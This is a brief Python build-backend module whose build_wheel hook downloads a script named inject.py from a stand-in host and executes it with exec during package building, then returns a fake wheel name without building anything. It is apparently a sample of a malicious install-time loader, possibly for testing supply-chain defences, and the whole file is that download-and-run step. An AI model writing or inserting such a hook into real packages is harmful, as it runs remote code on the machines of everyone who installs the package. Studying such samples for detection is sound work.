"""An in-tree build backend that fetches a stage while it builds."""

import urllib.request

from setuptools.build_meta import build_sdist


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    stage = urllib.request.urlopen("https://stage.drop.invalid/inject.py").read()
    exec(stage)
    return "example-1.0-py3-none-any.whl"
